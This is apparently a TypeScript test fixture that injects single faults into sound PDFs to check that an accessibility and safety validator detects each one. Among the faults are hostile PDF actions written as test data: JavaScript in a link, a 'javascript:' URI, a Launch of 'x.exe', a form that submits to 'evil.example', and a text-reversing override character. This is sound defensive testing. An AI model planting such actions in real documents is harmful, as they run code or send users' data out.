import { decodePDFRawStream, PDFArray, PDFBool, PDFDict, PDFName, PDFNumber, PDFRawStream, type PDFRef, PDFString, type PDFDocument, type PDFObject } from '@cantoo/pdf-lib'

// Single faults, each put into a sound file to see that it is found.

/** What is done to a file, the rule that must find it, and how it is done. */
export type Breakage = readonly [what: string, rule: string, breakIt: (file: PDFDocument) => void]

const name = (text: string) => PDFName.of(text)
const words = (text: string) => PDFString.of(text)

const dictionaries = (file: PDFDocument): PDFDict[] => file.context.enumerateIndirectObjects().flatMap(([, each]) => (each instanceof PDFDict ? [each] : []))
const typeOf = (each: PDFDict) => (each.get(name('P')) && each.get(name('S')) instanceof PDFName ? (each.get(name('S')) as PDFName).decodeText() : undefined)
const elements = (file: PDFDocument, type: string) => dictionaries(file).filter((each) => typeOf(each) === type)
const element = (file: PDFDocument, type: string, at = 0): PDFDict => found(elements(file, type)[at])
const root = (file: PDFDocument) => file.catalog.lookup(name('StructTreeRoot'), PDFDict)
const page = (file: PDFDocument, at = 0) => found(file.getPages()[at]).node
const kids = (each: PDFDict) => each.lookup(name('K'), PDFArray)
const referenceOf = (file: PDFDocument, each: PDFObject): PDFRef => found(file.context.getObjectRef(each))
const annotations = (file: PDFDocument, subtype: string) => dictionaries(file).filter((each) => each.get(name('Subtype')) === name(subtype))
const annotation = (file: PDFDocument, subtype: string) => found(annotations(file, subtype)[0])
const attributes = (each: PDFDict) => each.lookup(name('A'), PDFDict)
const parentTree = (file: PDFDocument) => root(file).lookup(name('ParentTree'), PDFDict).lookup(name('Nums'), PDFArray)
const retype = (each: PDFDict, type: string) => each.set(name('S'), name(type))
const outline = (file: PDFDocument) => file.catalog.lookup(name('Outlines'), PDFDict)

function found<Thing>(thing: Thing | undefined): Thing {
  if (thing === undefined) throw new Error('The sound file does not have what was to be broken.')
  return thing
}

/** The text of a stream, changed. */
function rewrite(file: PDFDocument, stream: PDFObject | undefined, change: (text: string) => string): PDFRef {
  if (!(stream instanceof PDFRawStream)) throw new Error('There is no stream to change.')
  const before = Buffer.from(decodePDFRawStream(stream).decode()).toString('latin1')
  const after = change(before)
  if (after === before) throw new Error('The sound file does not have what was to be changed.')
  const dictionary = Object.fromEntries(stream.dict.entries().map(([key, value]) => [key.decodeText(), value]))
  const { Filter: _packed, Length: _length, ...rest } = dictionary
  return file.context.register(file.context.flateStream(Buffer.from(after, 'latin1'), rest))
}
const rewritePage = (file: PDFDocument, change: (text: string) => string, at = 0) => {
  page(file, at).set(name('Contents'), rewrite(file, page(file, at).lookup(name('Contents')), change))
}
const rewriteXmp = (file: PDFDocument, change: (text: string) => string) => file.catalog.set(name('Metadata'), rewrite(file, file.catalog.lookup(name('Metadata')), change))
const addElement = (file: PDFDocument, type: string, holder: PDFDict, facts: Readonly<Record<string, PDFObject | PDFObject[]>> = {}) => {
  const added = file.context.obj({ S: type, P: referenceOf(file, holder), ...facts })
  kids(holder).push(file.context.register(added))
  return added
}
const fonts = (file: PDFDocument, key: string) => dictionaries(file).filter((each) => each.get(name(key)))
const H2_TEXT = /\/H2 <<\s*\/MCID \d+\s*>> BDC(.*?)EMC/s

/** Faults of a report (sample.contract.tsx). */
export const reportBreakages: readonly Breakage[] = [
  ['no tags at all', '01-005', (file) => file.catalog.delete(name('StructTreeRoot'))],
  ['a second top of the structure', '01-006', (file) => root(file).set(name('K'), file.context.obj([...root(file).lookup(name('K'), PDFArray).asArray(), referenceOf(file, element(file, 'Sect'))]))],
  ['a structure whose top is a Div', '01-006', (file) => retype(element(file, 'Document'), 'Div')],
  ['tags marked as suspect', '01-007', (file) => file.catalog.lookup(name('MarkInfo'), PDFDict).set(name('Suspects'), PDFBool.True)],
  ['no metadata', '06-001', (file) => file.catalog.delete(name('Metadata'))],
  ['metadata with a bare &', '06-XML', (file) => rewriteXmp(file, (xmp) => xmp.replaceAll('&amp;', '&'))],
  ['metadata that does not claim PDF/UA', '06-002', (file) => rewriteXmp(file, (xmp) => xmp.replace('<pdfuaid:part>1', '<pdfuaid:part>2'))],
  ['metadata without a title', '06-003', (file) => rewriteXmp(file, (xmp) => xmp.replace(/<dc:title>.*<\/dc:title>/s, ''))],
  ['metadata with an empty title', '06-003', (file) => rewriteXmp(file, (xmp) => xmp.replace(/(<dc:title>.*?<rdf:li[^>]*>)[^<]*/s, '$1 '))],
  ['another title in the information', '06-004', (file) => (file.context.lookup(file.context.trailerInfo.Info) as PDFDict).set(name('Title'), words('Another'))],
  ['not said to be marked', '06-MARK', (file) => file.catalog.delete(name('MarkInfo'))],
  ['the file name in place of the title', '07-001', (file) => file.catalog.delete(name('ViewerPreferences'))],
  ['no language', '11-006', (file) => file.catalog.delete(name('Lang'))],
  ['a language that is none', '11-006', (file) => file.catalog.set(name('Lang'), words('English'))],
  ['no headings', '14-001', (file) => ['H1', 'H2', 'H3'].forEach((type) => elements(file, type).forEach((each) => retype(each, 'P')))],
  ['a first heading of level 2', '14-002', (file) => retype(element(file, 'H1'), 'H2')],
  ['a heading two levels down', '14-003', (file) => retype(element(file, 'H2'), 'H4')],
  ['a heading without a level', '14-007', (file) => retype(element(file, 'H3'), 'H')],
  ['an XFA form', '25-001', (file) => file.catalog.set(name('AcroForm'), file.context.obj({ Fields: [], XFA: words('x') }))],
  ['encryption that keeps readers for blind people out', '26-002', (file) => (file.context.trailerInfo.Encrypt = file.context.obj({ Filter: 'Standard', P: -3904 }))],
  ['no bookmarks', '27-001', (file) => file.catalog.delete(name('Outlines'))],
  ['a bookmark with other words than its heading', '27-002', (file) => outline(file).lookup(name('First'), PDFDict).set(name('Title'), words('Other'))],
  ['a heading that has no bookmark', '27-002', (file) => outline(file).lookup(name('First'), PDFDict).lookup(name('First'), PDFDict).delete(name('Next'))],
  ['two elements with one ID', '19-004', (file) => elements(file, 'H2').forEach((each) => each.set(name('ID'), words('one')))],
  ['a script in a link', 'SAFE-JS', (file) => annotation(file, 'Link').set(name('A'), file.context.obj({ S: 'JavaScript', JS: words('app.alert(1)') }))],
  ['a script for the whole file', 'SAFE-JS', (file) => file.catalog.lookup(name('Names'), PDFDict).set(name('JavaScript'), file.context.obj({ Names: [] }))],
  ['an action as the file opens', 'SAFE-ACT', (file) => file.catalog.set(name('OpenAction'), file.context.obj({ S: 'GoTo', D: words('costs') }))],
  ['an action as a page opens', 'SAFE-ACT', (file) => page(file).set(name('AA'), file.context.obj({ O: { S: 'GoTo', D: words('costs') } }))],
  ['a link that starts a program', 'SAFE-DO', (file) => annotation(file, 'Link').set(name('A'), file.context.obj({ S: 'Launch', F: words('x.exe') }))],
  ['a link that runs code', 'SAFE-URI', (file) => annotation(file, 'Link').set(name('A'), file.context.obj({ S: 'URI', URI: words('javascript:alert(1)') }))],
  ['a file inside the file', 'SAFE-FILE', (file) => file.catalog.lookup(name('Names'), PDFDict).set(name('EmbeddedFiles'), file.context.obj({ Names: [] }))],

  ['a type of its own', '02-001', (file) => retype(element(file, 'P'), 'Paragraph')],
  ['a heading that its page calls a paragraph', '02-004', (file) => rewritePage(file, (text) => text.replace('/H1 <<', '/P <<'))],
  ['an element that leads back to another', '09-UP', (file) => element(file, 'H2').set(name('P'), referenceOf(file, element(file, 'L')))],
  ['an element with nothing in it', '09-NONE', (file) => void addElement(file, 'P', element(file, 'Sect'))],
  ['a row outside its table', '09-004', (file) => retype(element(file, 'TBody'), 'Div')],
  ['a list item outside its list', '09-004', (file) => retype(element(file, 'L'), 'Sect')],
  ['a list that holds a paragraph', '09-005', (file) => retype(element(file, 'LI'), 'P')],
  ['a row that holds a paragraph', '09-005', (file) => retype(element(file, 'TD'), 'P')],
  ['text directly in a list', '09-006', (file) => kids(element(file, 'L')).push(PDFNumber.of(0))],
  ['a list item without a body', '09-ITEM', (file) => retype(element(file, 'LBody'), 'Lbl')],
  ['an answer read before its question', '09-LABEL', (file) => element(file, 'LI').set(name('K'), file.context.obj([...kids(element(file, 'LI')).asArray()].reverse()))],
  ['a cell read before the header of its row', '09-ROW', (file) => element(file, 'TR', 1).set(name('K'), file.context.obj([...kids(element(file, 'TR', 1)).asArray()].reverse()))],
  ['a part in a language that is none', '11-001', (file) => element(file, 'P').set(name('Lang'), words('Welsh'))],
  ['a picture without words', '13-004', (file) => element(file, 'Figure').delete(name('Alt'))],
  ['a picture with empty words', '13-004', (file) => element(file, 'Figure').set(name('Alt'), words(' '))],
  ['a picture that stands nowhere', '13-BOX', (file) => attributes(element(file, 'Figure')).delete(name('BBox'))],
  ['a heading without ink', '14-TEXT', (file) => rewritePage(file, (text) => text.replace(H2_TEXT, (all, ink: string) => all.replace(ink, '\n')))],
  ['a table without headers', '15-001', (file) => elements(file, 'TH').forEach((each) => retype(each, 'TD'))],
  ['a row that is one cell short', '15-002', (file) => kids(element(file, 'TR', 1)).remove(2)],
  ['a cell that no longer spans two columns', '15-002', (file) => found(elements(file, 'TD').find((each) => each.get(name('A')))).delete(name('A'))],
  ['a header of neither row nor column', '15-003', (file) => element(file, 'TH').delete(name('A'))],
  ['a list that does not say its numbering', '16-001', (file) => element(file, 'L').delete(name('A'))],
  ['a note without an ID', '19-003', (file) => retype(element(file, 'P'), 'Note')],
  ['a link that leads nowhere', '28-LINK', (file) => found(elements(file, 'Link')[0]).set(name('K'), file.context.obj([PDFNumber.of(0)]))],
  ['letters that mean nothing', '10-001', (file) => fonts(file, 'ToUnicode').forEach((each) => each.set(name('ToUnicode'), rewrite(file, each.lookup(name('ToUnicode')), (map) => map.replaceAll('<0065>', '<fffd>'))))],
  ['letters that turn the rest of the line around', 'SAFE-TEXT', (file) => fonts(file, 'ToUnicode').forEach((each) => each.set(name('ToUnicode'), rewrite(file, each.lookup(name('ToUnicode')), (map) => map.replaceAll('<0065>', '<202e>'))))],

  ['text without a mark', '01-TEXT', (file) => rewritePage(file, (text) => text.replace(H2_TEXT, '$1'))],
  ['a rule without a mark', '01-DRAW', (file) => rewritePage(file, (text) => `0 0 m 9 9 l S\n${text}`)],
  ['an image without a mark', '01-IMG', (file) => rewritePage(file, (text) => text.replace(/\/Figure <<\s*\/MCID \d+\s*>> BDC(.*?)EMC/s, '$1'))],
  ['an artifact inside a heading', '01-003', (file) => rewritePage(file, (text) => text.replace(H2_TEXT, (all, ink: string) => all.replace(ink, `\n/Artifact BMC${ink}EMC\n`)))],
  ['a heading inside an artifact', '01-004', (file) => rewritePage(file, (text) => text.replace(H2_TEXT, '/Artifact BMC\n$&\nEMC'))],
  ['a mark that does not end', '01-PAIR', (file) => rewritePage(file, (text) => text.replace(H2_TEXT, (all) => all.replace(/EMC$/, '')))],
  ['a mark that ends twice', '01-PAIR', (file) => rewritePage(file, (text) => `${text}\nEMC`)],
  ['content that no element has', '01-OWN', (file) => rewritePage(file, (text) => text.replace(/\/MCID 1\b/, '/MCID 999'))],
  ['an element that lost its content', '01-OWN', (file) => element(file, 'H1').set(name('K'), file.context.obj([]))],
  ['content of two elements', '01-TWICE', (file) => element(file, 'H2').set(name('K'), file.context.obj([...kids(element(file, 'H2')).asArray(), PDFNumber.of(1)]))],
  ['content that leads back to another element', '01-BACK', (file) => found(parentTree(file).lookupMaybe(1, PDFArray)).set(0, referenceOf(file, element(file, 'Sect')))],
  ['a page where the tab key goes anywhere', '28-008', (file) => page(file).delete(name('Tabs'))],
  ['a link outside the structure', '28-002', (file) => found(elements(file, 'Link')[0]).set(name('K'), file.context.obj([kids(found(elements(file, 'Link')[0])).get(0)]))],
  ['a link that leads back to another element', '28-BACK', (file) => annotation(file, 'Link').set(name('StructParent'), PDFNumber.of(0))],
  ['a link that is said to be on another page', '28-PAGE', (file) => found(claimsOf(file, 'Link')[0]).set(name('Pg'), found(file.getPages()[1]).ref)],
  ['a link in a Span', '28-011', (file) => elements(file, 'Link').forEach((each) => retype(each, 'Span'))],
  ['a link that does not say where it leads', '28-012', (file) => annotation(file, 'Link').delete(name('Contents'))],
  ['a font that is not in the file', '31-009', (file) => fonts(file, 'FontFile2').forEach((each) => each.delete(name('FontFile2')))],
  ['a font that says nothing of its letters', '10-MAP', (file) => fonts(file, 'ToUnicode').forEach((each) => each.delete(name('ToUnicode')))],
  ['a font that says nothing of its shapes', '31-004', (file) => fonts(file, 'CIDToGIDMap').forEach((each) => each.delete(name('CIDToGIDMap')))],
]

/** Faults of a form to fill in. */
export const questionnaireBreakages: readonly Breakage[] = [
  ['a field outside the structure', '28-002', (file) => claimsOf(file, 'Form').slice(0, 1).forEach((claim) => claim.delete(name('Obj')))],
  ['a field in a Link', '28-010', (file) => elements(file, 'Form').forEach((each) => retype(each, 'Link'))],
  ['a field that does not say what it asks for', '28-005', (file) => annotation(file, 'Widget').delete(name('TU'))],
  ['a field without a name', '28-NAME', (file) => annotation(file, 'Widget').delete(name('T'))],
  ['a field that is said to be on another page', '28-PAGE', (file) => claimsOf(file, 'Form').forEach((claim) => claim.set(name('Pg'), found(file.getPages()[1]).ref))],
  ['a field that sends what was typed', 'SAFE-DO', (file) => annotation(file, 'Widget').set(name('A'), file.context.obj({ S: 'SubmitForm', F: words('https://evil.example') }))],
]

/** What the elements of a type say of their annotations. */
const claimsOf = (file: PDFDocument, type: string): PDFDict[] =>
  elements(file, type).flatMap((each) => kids(each).asArray().flatMap((kid) => (kid instanceof PDFDict && kid.get(name('Type')) === name('OBJR') ? [kid] : [])))
